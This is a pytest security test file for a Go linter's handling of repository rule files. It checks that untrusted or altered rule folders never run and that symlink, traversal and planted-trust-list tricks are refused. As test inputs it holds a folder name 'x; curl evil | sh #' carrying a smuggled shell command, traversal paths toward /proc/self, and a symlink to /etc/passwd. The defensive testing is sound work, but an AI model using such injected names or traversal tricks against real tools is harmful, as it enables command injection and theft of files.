"""Rule files in the repository: none of them runs unless the user has trusted exactly these files."""

import json
import os
from pathlib import Path

import pytest

from golint_conn.rule.loading.registry import completed, load_rules
from golint_conn.rule.loading.rule_folder import read_folder
from golint_conn.rule.loading.rule_sources import RuleSources
from golint_conn.rule.version import API_VERSION
from tests.attacks.conftest import Victim

pytestmark = pytest.mark.slow

CONFIG = 'rules-dirs = ["rules"]\n'
OWN = "own-keep-alives"


@pytest.fixture
def planted(victim: Victim) -> Victim:
    victim.plant({"rules/own_keep_alives.py": victim.rule(), ".golint-conn.toml": CONFIG})
    return victim


def test_named_on_the_command_line_it_runs(planted: Victim) -> None:
    done = planted.check("--no-config", "--rules-dir", "rules")
    assert f"({OWN})" in done.stdout
    assert planted.was_hit


@pytest.mark.parametrize("command", [("check",), ("check", "--hook"), ("check", "--hook", "leak.go"), ("rules",),
                                     ("ignores",), ("why", "leak.go:6"), ("baseline", "create"), ("check", "--fix"),
                                     ("check", "--show-settings"), ("rule", "tls-verification-disabled"),
                                     ("rules", "trust", "rules"), ("rules", "trusted"), ("rules", "vet", "rules")])  # fmt: skip
def test_named_in_the_configuration_it_does_not_run(command: tuple[str, ...], planted: Victim) -> None:
    done = planted.run(*command)
    assert not planted.was_hit
    assert "Traceback" not in done.stderr


def test_one_warning_names_the_command_that_would_help(planted: Victim) -> None:
    done = planted.check()
    assert done.stderr.count("notice") == 1
    assert "the rules in rules are not used: you have not trusted them" in done.stderr
    assert "golint-conn rules trust rules" in done.stderr
    assert OWN not in done.stdout


def test_trusted_it_runs_until_a_file_changes(planted: Victim) -> None:
    trusting = planted.run("rules", "trust", "rules")
    assert trusting.returncode == 0
    assert "own_keep_alives.py  (rule own-keep-alives)" in trusting.stdout
    assert not planted.was_hit
    assert f"({OWN})" in planted.check().stdout
    planted.marker.unlink()

    def refused(reason: str) -> None:
        done = planted.check()
        assert reason in done.stderr
        assert done.stderr.count("notice") == 1
        assert not planted.was_hit

    file = planted.repository / "rules" / "own_keep_alives.py"
    original = file.read_text(encoding="utf-8")
    file.write_text(original + "\n")
    refused("own_keep_alives.py has changed")
    file.write_text(original)
    planted.plant({"rules/data/more.txt": "x"})
    refused("data/more.txt is new")
    (planted.repository / "rules/data/more.txt").unlink()
    assert f"({OWN})" in planted.check().stdout
    planted.marker.unlink()
    file.rename(file.with_name("other.py"))
    refused("other.py is new, own_keep_alives.py is gone since you trusted them")


def test_untrusted_again_it_does_not_run(planted: Victim) -> None:
    planted.run("rules", "trust", "rules")
    assert planted.run("rules", "untrust", "rules").returncode == 0
    planted.check()
    assert not planted.was_hit
    assert planted.run("rules", "untrust", "rules").returncode == 2


def test_a_way_out_of_the_repository_leads_to_no_trust(planted: Victim) -> None:
    outside = planted.home / "elsewhere"
    outside.mkdir()
    (outside / "own_keep_alives.py").write_text(planted.rule())
    (outside / "secret.txt").write_text("hunter2")
    for name in ("../../elsewhere", str(outside), "rules/../../../elsewhere", "../../elsewhere/", "/", "/proc/self"):
        planted.plant({".golint-conn.toml": f'rules-dirs = ["{name}"]\n'})
        done = planted.check()
        assert not planted.was_hit
        assert "not trusted" in done.stderr
        assert "hunter2" not in done.stderr + done.stdout


def test_a_link_to_a_trusted_folder_runs_only_what_is_trusted(victim: Victim) -> None:
    trusted = victim.home / "mine"
    trusted.mkdir()
    (trusted / "own_keep_alives.py").write_text(victim.rule())
    victim.run("rules", "trust", str(trusted))
    (victim.repository / "rules").symlink_to(trusted)
    victim.plant({".golint-conn.toml": CONFIG})
    victim.check()
    assert victim.marker.read_text().split() == [str(trusted / "own_keep_alives.py")]


def test_a_link_in_place_of_a_trusted_folder_is_not_trusted(planted: Victim) -> None:
    planted.run("rules", "trust", "rules")
    (planted.repository / "rules").rename(planted.repository / "good")
    planted.plant({"evil/own_keep_alives.py": planted.rule()})
    (planted.repository / "rules").symlink_to("evil")
    done = planted.check()
    assert not planted.was_hit
    assert "not trusted" in done.stderr


def test_a_link_in_a_folder_of_rules_makes_it_unusable(planted: Victim) -> None:
    (planted.repository / "rules" / "more.py").symlink_to("/etc/passwd")
    done = planted.run("rules", "trust", "rules")
    assert done.returncode == 2
    assert "more.py is a symbolic link" in done.stderr
    assert "root:" not in done.stderr + done.stdout
    assert planted.run("check", "--rules-dir", "rules").returncode == 2
    assert not planted.was_hit


def test_a_pipe_among_the_rules_keeps_nobody_waiting(planted: Victim) -> None:
    os.mkfifo(planted.repository / "rules" / "pipe.py")
    assert "pipe.py is not a regular file" in planted.run("rules", "trust", "rules").stderr


def test_what_runs_is_what_was_looked_at(planted: Victim) -> None:
    """The file is exchanged between the look and the use."""
    folder = read_folder(str(planted.repository / "rules"))
    (planted.repository / "rules" / "own_keep_alives.py").write_text("raise SystemExit('exchanged')")
    sources = completed(RuleSources((folder,)))
    assert not sources.notices
    assert OWN in [rule.id for rule in load_rules(sources)]
    assert planted.was_hit


def test_a_changed_rule_is_not_answered_from_memory(planted: Victim) -> None:
    """The findings of earlier runs are kept, but not used under other rules."""
    file = planted.repository / "rules" / "own_keep_alives.py"
    for message in ("turns keep-alives off", "has been changed", "turns keep-alives off"):
        file.write_text(planted.rule().replace("turns keep-alives off", message), encoding="utf-8")
        for _ in range(2):
            done = planted.check("--no-config", "--rules-dir", "rules", "--select", f"{OWN},leak")
            assert f"DisableKeepAlives {message}" in done.stdout
    assert OWN not in planted.check("--no-config").stdout


def test_nothing_is_left_beside_rule_files(planted: Victim) -> None:
    planted.check("--rules-dir", "rules")
    assert planted.was_hit
    assert [each.name for each in (planted.repository / "rules").iterdir()] == ["own_keep_alives.py"]


def test_a_rule_file_shadows_no_module(victim: Victim) -> None:
    good = victim.rule("json").replace(
        "from golint_conn.rule.api", "import json as standard\n\nfrom golint_conn.rule.api"
    )
    check = "assert standard.loads('1') == 1\nimport tomllib\nassert tomllib.loads('a = 1')\n"
    victim.plant(
        {
            "own/json.py": good + check,
            "own/tomllib.py": victim.rule("tomllib"),
            "own/typing.py": f"API = {API_VERSION}\n1 / 0\n",
        }
    )
    done = victim.run("check", "--rules-dir", "own", "--output-format", "json")
    assert {each["rule"] for each in json.loads(done.stdout)["findings"]} >= {"json", "tomllib"}
    assert "own/typing.py: this rule is not used: ZeroDivisionError: division by zero (line 2)" in done.stderr


def test_compiled_code_in_the_folder_is_not_used(planted: Victim) -> None:
    planted.plant({"rules/__pycache__/own_keep_alives.cpython-311.pyc": "x", "rules/sourceless.pyc": "x"})
    done = planted.check("--rules-dir", "rules", "--no-config")
    assert f"({OWN})" in done.stdout
    assert "sourceless" not in done.stdout + done.stderr


def test_the_list_of_trusted_folders_cannot_be_brought_along(planted: Victim) -> None:
    """A state folder in the repository counts only if the environment names it, and never a relative one."""
    folder = read_folder(str(planted.repository / "rules"))
    digests = {Path(each.path).name: each.sha256 for each in folder.files}
    text = json.dumps({"format": 1, "folders": {folder.path: digests}})
    planted.plant({"state/golint-conn/trusted-rules.json": text, ".local/state/golint-conn/trusted-rules.json": text})
    assert planted.check(XDG_STATE_HOME="").stderr.count("not trusted") == 1
    done = planted.check(XDG_STATE_HOME="state")
    assert not planted.was_hit
    assert "not trusted" in done.stderr


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="modes are those of POSIX")
def test_a_list_that_others_may_write_does_not_count(planted: Victim) -> None:
    planted.run("rules", "trust", "rules")
    file = planted.home / "state" / "golint-conn" / "trusted-rules.json"
    assert file.stat().st_mode & 0o777 == 0o600
    file.chmod(0o666)
    done = planted.check()
    assert not planted.was_hit
    assert "other users may write to it" in done.stderr
    for text in ("", "[]", '{"format": 9}', '{"format": 1, "folders": {"/": 1}}', "[" * 100_000):
        file.write_text(text)
        file.chmod(0o600)
        done = planted.check()
        assert not planted.was_hit
        assert "Traceback" not in done.stderr


@pytest.mark.parametrize(("name", "word"), [("x; curl evil | sh #", "'x; curl evil | sh #'"), ("--help", "./--help")])
def test_a_name_made_for_a_shell_is_one_word_of_it(name: str, word: str, victim: Victim) -> None:
    victim.plant({f"{name}/own.py": victim.rule("own"), ".golint-conn.toml": f'rules-dirs = ["{name}"]\n'})
    assert f"golint-conn rules trust {word}\n" in victim.check().stderr


def test_folders_that_are_none_are_told_of(victim: Victim) -> None:
    for name, told in (("nothing", "there is no such folder"), ("leak.go", "there is no such folder"), ("\\u0000", "")):
        victim.plant({".golint-conn.toml": f'rules-dirs = ["{name}"]\n'})
        done = victim.run("check")
        assert told in done.stderr
        assert "Traceback" not in done.stderr
